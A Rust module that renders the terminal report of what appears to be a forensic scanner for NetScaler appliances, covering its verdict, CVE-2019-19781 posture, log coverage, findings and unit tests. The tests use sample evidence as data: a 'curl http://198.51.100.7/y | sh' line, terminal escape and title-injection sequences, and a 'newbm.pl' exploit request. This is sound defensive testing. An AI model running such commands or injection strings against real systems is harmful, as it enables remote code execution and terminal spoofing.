//! The text report, for a person reading a terminal or a saved file.
//!
//! The verdict comes first, then what was scanned, the findings by severity, what could not be
//! examined and a rule summary. Every string that comes from the evidence, the rules or the
//! command line goes through [`sanitize`](super::sanitize): this renderer must never write a raw
//! control character, and writes ANSI colour only when asked to.

use super::sanitize::{escape_bytes, escape_str, escape_text};
use crate::model::{Finding, Report, Severity, SourceCoverage, TimeGapStatus, Timestamp, Verdict};
use std::io::{self, Write};

/// The width the report is laid out for; only paths, excerpts and other evidence that must
/// not be cut run past it.
const WIDTH: usize = 100;

/// Width of the labels in front of finding details (`path:    `).
const LABEL: usize = 9;

/// Writes the text report. With `color` false the output contains no escape sequence.
pub(crate) fn render(report: &Report, out: &mut dyn Write, color: bool) -> io::Result<()> {
    let p = Painter { color };
    let mut s = String::new();
    verdict_section(report, &p, &mut s);
    posture_section(report, &mut s);
    time_section(report, &mut s);
    target_section(report, &mut s);
    findings_section(report, &p, &mut s);
    coverage_section(report, &mut s);
    rules_section(report, &p, &mut s);
    out.write_all(s.as_bytes())
}

/// Adds ANSI colour when enabled; otherwise returns the text unchanged.
struct Painter {
    color: bool,
}

impl Painter {
    fn paint(&self, sgr: &str, text: &str) -> String {
        if self.color {
            format!("\x1b[{sgr}m{text}\x1b[0m")
        } else {
            text.to_owned()
        }
    }

    fn verdict(&self, v: Verdict, text: &str) -> String {
        let sgr = match v {
            Verdict::Clean => "1;32",
            Verdict::Review => "1;33",
            Verdict::Compromised => "1;31",
            Verdict::Inconclusive => "1;35",
        };
        self.paint(sgr, text)
    }

    fn severity(&self, sev: Severity, text: &str) -> String {
        let sgr = match sev {
            Severity::Critical => "1;31",
            Severity::High => "31",
            Severity::Medium => "33",
            Severity::Low => "36",
            Severity::Info => "2",
        };
        self.paint(sgr, text)
    }
}

fn verdict_section(r: &Report, p: &Painter, s: &mut String) {
    let line = format!("VERDICT: {}", r.verdict.as_str().to_ascii_uppercase());
    s.push_str(&p.verdict(r.verdict, &line));
    s.push('\n');
    for reason in &r.reasons {
        wrap_into(s, &escape_text(reason), "  - ", "    ");
    }
    s.push('\n');
}

/// Firmware, CVEs and mitigation: beside the verdict, never part of it.
fn posture_section(r: &Report, s: &mut String) {
    let p = &r.posture;
    if p.firmware.is_none() && p.cves.is_empty() {
        return;
    }
    s.push_str("POSTURE (beside the verdict, not part of it)\n");
    let fw = p
        .firmware
        .as_deref()
        .map_or("unknown".to_owned(), escape_str);
    let mut who = Vec::new();
    for (k, v) in [
        ("host", &p.hostname),
        ("NSIP", &p.nsip),
        ("time zone", &p.timezone),
    ] {
        if let Some(v) = v {
            who.push(format!("{k} {}", escape_str(v)));
        }
    }
    let who = if who.is_empty() {
        String::new()
    } else {
        format!(" ({})", who.join(", "))
    };
    s.push_str(&format!("  Firmware {fw}{who}\n"));
    for d in &p.disagreements {
        wrap_into(s, &format!("note: {}", escape_str(d)), "    ", "      ");
    }
    for c in &p.cves {
        let status = match c.status {
            crate::model::CveStatus::Vulnerable => "VULNERABLE",
            crate::model::CveStatus::Fixed => "fixed",
            crate::model::CveStatus::Unknown => "unknown",
            crate::model::CveStatus::NotAffected => "not affected",
        };
        wrap_into(
            s,
            &format!(
                "{:<15} {status}: {}",
                escape_str(&c.id),
                escape_str(&c.evidence)
            ),
            "  ",
            "                  ",
        );
        cve_lines(c, s);
    }
    for m in &p.mitigations {
        mitigation_lines(m, s);
    }
    if !p.secrets_to_rotate.is_empty() {
        s.push_str("  Rotate these secrets (the configuration was within the attacker's reach):\n");
        for x in &p.secrets_to_rotate {
            wrap_into(s, &escape_str(x), "    - ", "      ");
        }
    }
    s.push('\n');
}

/// A CVE's exposing configuration and the end of its exposure, under its status line.
fn cve_lines(c: &crate::model::CvePosture, s: &mut String) {
    let indent = "                  ";
    if let Some(e) = &c.exposure {
        wrap_into(s, &escape_str(&e.summary), indent, indent);
        for l in &e.lines {
            wrap_into(
                s,
                &format!(
                    "{} ({}:{}): {}",
                    escape_str(&l.what),
                    escape_str(&l.path),
                    l.line,
                    escape_str(&l.text)
                ),
                &format!("{indent}  "),
                &format!("{indent}    "),
            );
        }
    }
    if let Some(l) = &c.left_vulnerable {
        let days = (l.at.unix() - l.vulnerable_from.unix()) / 86_400;
        wrap_into(
            s,
            &format!(
                "left the vulnerable build on {} ({}): exposed at least from {} to {}, {days} days ({})",
                l.at.date(),
                escape_str(&l.build),
                l.vulnerable_from.date(),
                l.at.date(),
                escape_str(&l.evidence)
            ),
            indent,
            indent,
        );
    }
}

/// A mitigation in words: in place or not, each part, which is missing, whether it held.
fn mitigation_lines(m: &crate::model::Mitigation, s: &mut String) {
    let state = match m.effective {
        Some(true) => "in place".to_owned(),
        Some(false) if m.missing.is_empty() => "present but NOT effective".to_owned(),
        Some(false) => format!("NOT in place: missing {}", m.missing.join("; ")),
        None => "unknown (the evidence does not show every part)".to_owned(),
    };
    let since = m
        .since
        .map_or(String::new(), |t| format!(", since {}", t.date()));
    wrap_into(
        s,
        &format!(
            "Mitigation {} for {} ({}): {}{since}",
            escape_str(&m.id),
            escape_str(&m.cve),
            escape_str(&m.name),
            escape_str(&state)
        ),
        "  ",
        "    ",
    );
    for part in &m.parts {
        let mark = match part.present {
            Some(true) => "present",
            Some(false) => "MISSING",
            None => "unknown",
        };
        let line = part
            .line
            .as_deref()
            .map_or(String::new(), |l| format!(": {}", escape_str(l)));
        wrap_into(
            s,
            &format!(
                "{mark}: {} ({}){line}",
                escape_str(&part.name),
                escape_str(&part.place)
            ),
            "    - ",
            "      ",
        );
    }
    if let Some(h) = &m.held {
        let word = if h.held { "held" } else { "DID NOT HOLD" };
        wrap_into(
            s,
            &format!("{word}: {}", escape_str(&h.summary)),
            "    ",
            "      ",
        );
        for x in &h.examples {
            wrap_into(s, &escape_bytes(&x.0), "      > ", "        ");
        }
    }
    for n in &m.notes {
        wrap_into(s, &format!("note: {}", escape_str(n)), "    ", "      ");
    }
}

/// What time the logs cover, per source, and whether that reaches each pack's window.
fn time_section(r: &Report, s: &mut String) {
    let dated: Vec<_> = r
        .coverage
        .sources
        .iter()
        .filter(|x| !x.files.is_empty())
        .collect();
    if dated.is_empty() && r.windows.is_empty() {
        return;
    }
    s.push_str(
        "LOGS COVER
",
    );
    let day = |t: Option<Timestamp>| t.map_or("-".to_owned(), Timestamp::minute);
    let w = dated
        .iter()
        .map(|x| x.id.chars().count())
        .max()
        .unwrap_or(6)
        .max(6);
    s.push_str(&format!(
        "  {:<w$}  {:<16}  {:<16}  FILES\n",
        "SOURCE", "FROM", "TO"
    ));
    for src in &dated {
        let mark = if src.year_inferred {
            " (year inferred)"
        } else {
            ""
        };
        let holes = src
            .time_gaps
            .iter()
            .filter(|g| g.status == TimeGapStatus::Hole)
            .count();
        let gaps = if holes == 0 {
            String::new()
        } else {
            format!(", {}", plural(holes as u64, "HOLE", "HOLES"))
        };
        s.push_str(&format!(
            "  {:<w$}  {:<16}  {:<16}  {}{mark}{gaps}\n",
            escape_str(&src.id),
            day(src.from),
            day(src.to),
            src.files.len()
        ));
    }
    holes_and_downtime(r, s);
    if let Some(z) = &r.coverage.timezone {
        let line = if z.assumed {
            format!("Syslog header times: UTC, assumed ({})", z.note)
        } else {
            format!(
                "Syslog header times: local time of {} ({}; {})",
                z.zone, z.daylight_saving, z.note
            )
        };
        wrap_into(s, &escape_text(&line), "  ", "    ");
    }
    for win in &r.windows {
        let status = match win.status {
            crate::model::WindowStatus::Covered => "covered",
            crate::model::WindowStatus::NotCovered => "NOT COVERED",
            crate::model::WindowStatus::NotRelevant => "not relevant",
        };
        let line = format!(
            "{} from {}: {status}: {}",
            escape_text(&win.title),
            win.from.date(),
            escape_text(&win.detail)
        );
        wrap_into(s, &line, "  * ", "    ");
    }
    s.push('\n');
}

/// `2020-01-12 10:32`; `?` when unknown.
fn minute(t: Option<Timestamp>) -> String {
    t.map_or("?".to_owned(), Timestamp::minute)
}

/// When the appliance was off, and every hole of every source, dated, under the table.
fn holes_and_downtime(r: &Report, s: &mut String) {
    for d in &r.coverage.downtime {
        let line = format!(
            "appliance off from {} to {}: {}",
            d.from.minute(),
            d.to.minute(),
            escape_text(&d.detail)
        );
        wrap_into(s, &line, "  * ", "    ");
    }
    for src in &r.coverage.sources {
        for g in src
            .time_gaps
            .iter()
            .filter(|g| g.status == TimeGapStatus::Hole)
        {
            let line = format!(
                "{} HOLE from {} to {}: {}",
                escape_str(&src.id),
                minute(g.from),
                minute(g.to),
                escape_text(&g.detail)
            );
            wrap_into(s, &line, "  * ", "    ");
        }
    }
}

fn target_section(r: &Report, s: &mut String) {
    let c = &r.coverage;
    s.push_str(&format!(
        "Target:   {} ({})\n",
        escape_str(&r.target.path),
        escape_str(&r.target.input)
    ));
    if let Some(d) = &r.target.detail {
        s.push_str(&format!("Input:    {}\n", escape_str(d)));
    }
    for i in &r.target.inputs {
        s.push_str(&format!(
            "Digest:   {}: {} bytes, sha256 {}{}\n",
            escape_str(&i.path),
            i.bytes,
            i.sha256
                .as_deref()
                .map_or_else(|| "unavailable (read error)".to_owned(), escape_str),
            if i.complete {
                ""
            } else {
                " (of the bytes received: sporen stopped reading early)"
            }
        ));
    }
    s.push_str(&format!(
        "Tool:     {} {}\nRules:    sha256 {}\n",
        escape_str(&r.tool.name),
        escape_str(&r.tool.version),
        escape_str(&r.rules_sha256)
    ));
    let blocking = c.gaps.iter().filter(|g| g.blocks_clean).count();
    let layout = if c.looks_like_appliance {
        "appliance layout recognised"
    } else {
        "NOT a recognised appliance layout"
    };
    s.push_str(&format!(
        "Coverage: {}/{} files read ({}), {}, {} blocking clean; {}\n\n",
        c.files_read,
        c.files_seen,
        human_bytes(c.bytes_read),
        plural(c.gaps.len() as u64, "gap", "gaps"),
        blocking,
        layout
    ));
}

fn findings_section(r: &Report, p: &Painter, s: &mut String) {
    if r.findings.is_empty() {
        s.push_str("FINDINGS: none\n\n");
        return;
    }
    let counts: Vec<String> = Severity::DESCENDING
        .iter()
        .map(|&sev| {
            let n = r.findings.iter().filter(|f| f.severity == sev).count();
            format!("{n} {sev}")
        })
        .collect();
    s.push_str(&format!(
        "FINDINGS: {} ({})\n",
        r.findings.len(),
        counts.join(", ")
    ));
    for sev in Severity::DESCENDING {
        let group: Vec<&Finding> = r.findings.iter().filter(|f| f.severity == sev).collect();
        if group.is_empty() {
            continue;
        }
        s.push('\n');
        let head = format!("{} ({})", sev.as_str().to_ascii_uppercase(), group.len());
        s.push_str(&p.severity(sev, &head));
        s.push('\n');
        for f in group {
            finding(f, p, s);
        }
    }
    s.push('\n');
}

fn finding(f: &Finding, p: &Painter, s: &mut String) {
    let tag = p.severity(f.severity, &format!("[{}]", f.severity.as_str()));
    s.push_str(&format!(
        "  {tag} {}: {}\n",
        escape_str(&f.rule),
        escape_str(&f.title)
    ));
    detail(s, "path", &escape_bytes(f.path.as_bytes()));
    if let Some(b64) = &f.path_base64 {
        detail(s, "base64", &escape_str(b64));
    }
    let collapsed = (f.count > 1).then(|| match f.last_line {
        Some(l) => format!("({} matching lines, last at line {l})", f.count),
        None => format!("({} matching lines)", f.count),
    });
    match (f.line, &collapsed) {
        (Some(line), Some(c)) => detail(s, "line", &format!("{line} {c}")),
        (Some(line), None) => detail(s, "line", &line.to_string()),
        (None, Some(c)) => detail(s, "matches", c),
        (None, None) => {}
    }
    if let Some(e) = &f.excerpt {
        detail(s, "excerpt", &escape_bytes(&e.0));
    }
    if f.count > 1
        && let Some(e) = &f.last_excerpt
    {
        detail(s, "last", &escape_bytes(&e.0));
    }
    let reason = escape_text(&f.reason);
    wrap_into(s, &reason, &label("reason"), &" ".repeat(4 + LABEL));
    if let Some(h) = &f.sha256 {
        detail(s, "sha256", &escape_str(h));
    }
    if let Some(t) = f.time {
        let mut when = t.to_string();
        if let Some(l) = f.last_time {
            when.push_str(&format!(" .. {l}"));
        }
        if f.time_inferred {
            when.push_str(" (year inferred)");
        }
        detail(s, "logged", &when);
    }
    if let Some(m) = f.mtime {
        detail(s, "mtime", &m.to_string());
    }
}

fn label(name: &str) -> String {
    format!("    {:<width$}", format!("{name}:"), width = LABEL)
}

/// One `    name:    value` line; the value is written whole, however long.
fn detail(s: &mut String, name: &str, value: &str) {
    s.push_str(&label(name));
    s.push_str(value);
    s.push('\n');
}

fn coverage_section(r: &Report, s: &mut String) {
    let c = &r.coverage;
    s.push_str("COVERAGE\n");
    wrap_into(
        s,
        &format!(
            "{}: {} ({} read, {}), {}, {}, {} skipped",
            plural(c.entries_seen, "entry", "entries"),
            plural(c.files_seen, "file", "files"),
            c.files_read,
            human_bytes(c.bytes_read),
            plural(c.dirs_seen, "dir", "dirs"),
            plural(c.symlinks_seen, "symlink", "symlinks"),
            plural(c.special_files_skipped, "special file", "special files"),
        ),
        "  ",
        "  ",
    );
    for n in &c.notes {
        wrap_into(s, &format!("note: {}", escape_str(n)), "  ", "    ");
    }
    s.push('\n');
    sources_table(&c.sources, s);
    s.push('\n');

    let blocking = c.gaps.iter().filter(|g| g.blocks_clean).count();
    if c.gaps.is_empty() {
        s.push_str("Gaps: none\n\n");
        return;
    }
    s.push_str(&format!(
        "Gaps: {} ({} blocking a clean verdict)\n",
        c.gaps.len(),
        blocking
    ));
    for g in &c.gaps {
        s.push_str(&format!("  {}\n", escape_bytes(g.path.as_bytes())));
        if let Some(b64) = &g.path_base64 {
            s.push_str(&format!("    base64: {}\n", escape_str(b64)));
        }
        let blocks = if g.blocks_clean {
            "[blocks clean]"
        } else {
            "[does not block clean]"
        };
        let text = format!("{}: {} {}", g.cause.as_str(), escape_str(&g.detail), blocks);
        wrap_into(s, &text, "    ", "      ");
    }
    s.push('\n');
}

fn sources_table(sources: &[SourceCoverage], s: &mut String) {
    if sources.is_empty() {
        s.push_str("Evidence sources: none defined\n");
        return;
    }
    s.push_str("Evidence sources:\n");
    let header = ["ID", "REQUIRED", "FILES", "BYTES", "READ", "TITLE"];
    let rows: Vec<[String; 6]> = sources
        .iter()
        .map(|src| {
            [
                escape_str(&src.id),
                if src.required { "yes" } else { "no" }.to_owned(),
                src.files.len().to_string(),
                human_bytes(src.bytes),
                format!("{}/{}", src.files_read, src.files.len()),
                escape_str(&src.title),
            ]
        })
        .collect();
    let mut widths = header.map(str::len);
    for row in &rows {
        for (w, cell) in widths.iter_mut().zip(row.iter()) {
            *w = (*w).max(cell.chars().count());
        }
    }
    // Numbers are right-aligned; the title takes what is left of the line.
    let right = [false, false, true, true, true, false];
    let line = |cells: [&str; 6]| {
        let mut l = String::from(" ");
        for i in 0..5 {
            l.push(' ');
            l.push_str(&pad(cells[i], widths[i], right[i]));
            l.push(' ');
        }
        l.push(' ');
        let room = WIDTH.saturating_sub(l.chars().count()).max(20);
        l.push_str(&truncate(cells[5], room));
        l.trim_end().to_owned()
    };
    s.push_str(&line(header));
    s.push('\n');
    for row in &rows {
        let cells = [
            row[0].as_str(),
            row[1].as_str(),
            row[2].as_str(),
            row[3].as_str(),
            row[4].as_str(),
            row[5].as_str(),
        ];
        s.push_str(&line(cells));
        s.push('\n');
    }
}

fn rules_section(r: &Report, p: &Painter, s: &mut String) {
    let fired: Vec<_> = r.rules.iter().filter(|h| h.findings > 0).collect();
    s.push_str(&format!(
        "RULES: {} in force, {} fired, {} did not fire\n",
        r.rules.len(),
        fired.len(),
        r.rules.len() - fired.len()
    ));
    let id_width = fired
        .iter()
        .map(|h| escape_str(&h.id).chars().count())
        .max()
        .unwrap_or(0);
    for h in fired {
        let sev = p.severity(h.severity, &format!("{:<8}", h.severity.as_str()));
        s.push_str(&format!(
            "  {}  {sev}  {}, {}\n",
            pad(&escape_str(&h.id), id_width, false),
            plural(h.findings, "finding", "findings"),
            plural(h.hits, "hit", "hits"),
        ));
    }
}

/// Word-wraps `text` (already escaped, so without newlines) at [`WIDTH`] columns. Words longer
/// than a line are not cut.
fn wrap_into(s: &mut String, text: &str, first: &str, rest: &str) {
    let mut line = String::from(first);
    let mut len = first.chars().count();
    let mut empty = true;
    for word in text.split(' ') {
        let wlen = word.chars().count();
        if !empty && len + 1 + wlen > WIDTH {
            s.push_str(&line);
            s.push('\n');
            line = String::from(rest);
            len = rest.chars().count();
            empty = true;
        }
        if !empty {
            line.push(' ');
            len += 1;
        }
        line.push_str(word);
        len += wlen;
        empty = false;
    }
    s.push_str(line.trim_end());
    s.push('\n');
}

fn pad(cell: &str, width: usize, right: bool) -> String {
    if right {
        format!("{cell:>width$}")
    } else {
        format!("{cell:<width$}")
    }
}

fn truncate(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_owned();
    }
    let mut t: String = text.chars().take(max.saturating_sub(3)).collect();
    t.push_str("...");
    t
}

fn plural(n: u64, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// Sizes in binary units with one decimal (`12.3 MiB`); exact below 1 KiB.
fn human_bytes(n: u64) -> String {
    const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if n < 1024 {
        return format!("{n} B");
    }
    let mut value = n as f64 / 1024.0;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    format!("{value:.1} {}", UNITS[unit])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{Format, raw_controls, render_string, sample_report};

    fn text(color: bool) -> String {
        render_string(&sample_report(), Format::Text, color)
    }

    #[test]
    fn verdict_comes_first_with_reasons() {
        let t = text(false);
        let mut lines = t.lines();
        assert_eq!(lines.next(), Some("VERDICT: COMPROMISED"));
        assert_eq!(
            lines.next(),
            Some("  - 2 findings of critical or high severity.")
        );
        assert!(t.contains("Target:   /evidence/ns1 (directory)\n"));
        assert!(t.contains("Coverage: 980/1000 files read (12.3 MiB), 3 gaps, 1 blocking clean"));
    }

    #[test]
    fn controls_are_escaped() {
        let t = text(false);
        assert_eq!(raw_controls(&t, &['\n']), Vec::<char>::new());
        assert!(!t.contains('\u{202e}'));
        // The non-UTF-8 path with a newline, the ESC sequence and newline in the excerpt.
        assert!(t.contains("    path:    /netscaler/portal/templates/evil\\xff\\n.xml\n"));
        assert!(t.contains("\\x1b[31mred\\x1b[0m\\nnext\n"));
        assert!(t.contains("a\\u{202e}gnp.php"));
        // The gap path with an OSC title sequence, its detail with CR LF.
        assert!(t.contains("  /tmp/\\x1b]0;pwned\\x07\\xfe\n"));
        assert!(t.contains("special_file: FIFO\\r\\nnot opened [does not block clean]"));
        assert!(t.contains("unreadable: Permission denied (os error 13) [blocks clean]"));
    }

    #[test]
    fn posture_says_exposure_mitigation_parts_and_whether_it_held_in_words() {
        let t = text(false);
        let flat = t.split_whitespace().collect::<Vec<_>>().join(" ");
        for said in [
            "vulnerable build, exposed configuration",
            "Gateway virtual server (/flash/nsconfig/ns.conf:21): add vpn vserver gw\\x1b]0;pwned\\x07",
            "left the vulnerable build on 2020-01-25 (13.0-47.24): exposed at least from 2019-10-14 to 2020-01-25, 103 days",
            "Mitigation CTX267679 for CVE-2019-19781",
            "NOT in place: missing responder feature enabled",
            "MISSING: responder feature enabled (/flash/nsconfig/ns.conf)",
            "present: policy bound globally with -type REQ_OVERRIDE (/flash/nsconfig/ns.conf:28): bind responder global ctx\\x1b[2J",
            "DID NOT HOLD: from 2020-01-13 on, 2 attempts",
            "newbm.pl HTTP/1.1\" 200 143 \"\\x1b[2J\\xff\"",
        ] {
            assert!(flat.contains(said), "{said:?} not in:\n{t}");
        }
    }

    #[test]
    fn findings_are_grouped_most_severe_first() {
        let t = text(false);
        let pos = |needle: &str| t.find(needle).unwrap_or(usize::MAX);
        let heads = [
            "\nCRITICAL (1)\n",
            "\nHIGH (1)\n",
            "\nMEDIUM (1)\n",
            "\nINFO (1)\n",
        ];
        for pair in heads.windows(2) {
            assert!(pos(pair[0]) < pos(pair[1]), "{pair:?}");
        }
        assert!(!t.contains("\nLOW ("));
        assert!(t.contains("FINDINGS: 4 (1 critical, 1 high, 1 medium, 0 low, 1 info)\n"));
        assert!(t.contains("    line:    10 (5 matching lines, last at line 42)\n"));
        assert!(t.contains("    last:    -curl http://198.51.100.7/y | sh\\t#\n"));
        assert!(t.contains(&format!("    sha256:  {}\n", "a".repeat(64))));
        assert!(t.contains("    mtime:   2020-01-11T23:41:07Z\n"));
        // The single-hit finding has no collapse note.
        assert!(t.contains("    line:    1\n"));
    }

    #[test]
    fn coverage_and_rule_summary() {
        let t = text(false);
        assert!(t.contains("  ID            REQUIRED  FILES    BYTES  READ  TITLE\n"));
        assert!(t.contains(
            "  access-log    yes           2  2.4 MiB   1/2  Apache access log (httpaccess.log)\n"
        ));
        assert!(t.contains("  1300 entries: 1000 files (980 read, 12.3 MiB), 250 dirs, "));
        assert!(t.contains("Gaps: 3 (1 blocking a clean verdict)\n"));
        assert!(t.contains("RULES: 6 in force, 4 fired, 2 did not fire\n"));
        assert!(t.contains("history.curl-pipe-shell            medium    1 finding, 5 hits\n"));
        // Rules that did not fire are counted, not listed.
        assert!(!t.contains("history.failed-login"));
    }

    #[test]
    fn fits_in_width_except_evidence() {
        for line in text(false).lines() {
            let evidence = [
                "    path:",
                "    excerpt:",
                "    last:",
                "    sha256:",
                "  /",
            ];
            if evidence.iter().any(|p| line.starts_with(p)) {
                continue;
            }
            assert!(line.chars().count() <= WIDTH, "too wide: {line}");
        }
    }

    #[test]
    fn color_marks_verdict_and_severities_only_when_asked() {
        let t = text(true);
        assert!(t.starts_with("\x1b[1;31mVERDICT: COMPROMISED\x1b[0m\n"));
        assert!(t.contains("\x1b[1;31m[critical]\x1b[0m"));
        assert!(t.contains("\x1b[33mMEDIUM (1)\x1b[0m"));
        // Colour only adds SGR sequences: removing them gives back the plain report.
        let sgr = regex::Regex::new("\x1b\\[[0-9;]*m").expect("constant regex");
        assert_eq!(sgr.replace_all(&t, ""), text(false));
    }

    #[test]
    fn empty_report_reads_well() {
        let mut r = sample_report();
        r.findings.clear();
        r.coverage.gaps.clear();
        r.coverage.sources.clear();
        r.reasons = vec!["All required sources were read and no rule fired.".into()];
        r.verdict = Verdict::Clean;
        let t = render_string(&r, Format::Text, false);
        assert!(t.starts_with("VERDICT: CLEAN\n"));
        assert!(t.contains("FINDINGS: none\n"));
        assert!(t.contains("Gaps: none\n"));
        assert!(t.contains("Evidence sources: none defined\n"));
    }

    #[test]
    fn long_reasons_wrap() {
        let mut s = String::new();
        let words = vec!["word"; 60].join(" ");
        wrap_into(&mut s, &words, "  - ", "    ");
        let lines: Vec<&str> = s.lines().collect();
        assert!(lines.len() > 2);
        assert!(lines.iter().all(|l| l.chars().count() <= WIDTH));
        assert!(lines[1].starts_with("    word"));
        assert_eq!(human_bytes(512), "512 B");
        assert_eq!(human_bytes(1536), "1.5 KiB");
    }
}
